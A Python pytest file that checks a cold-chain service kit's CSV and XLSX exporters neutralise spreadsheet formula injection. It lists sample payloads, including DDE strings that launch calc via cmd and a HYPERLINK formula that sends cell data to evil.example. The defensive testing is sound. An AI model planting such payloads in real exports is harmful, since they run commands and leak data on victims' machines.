"""Exports are safe to open in a spreadsheet: formula-looking text never runs (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from coldchain_servicekit.spreadsheets import csv_bytes, neutralise, xlsx_bytes

pytestmark = pytest.mark.unit
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_looking_text_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-20", "+3.5", "-0.5", "1e3", "Truck 07", "A:frozen:-20:8", "", 7, -20.5, None]
)
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_csv_export_quotes_every_attack_and_keeps_the_text() -> None:
    data = csv_bytes(["name", "setpoint"], [[a, "-20"] for a in ATTACKS])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "setpoint"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert {r[1] for r in rows[1:]} == {"-20"}, "negative numbers stay numbers"


def test_xlsx_export_holds_text_not_formulas() -> None:
    data = xlsx_bytes("sites", ["name"], [[a] for a in ATTACKS])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
    # XML stores a carriage return as a line feed
    assert [c.value for c in cells] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
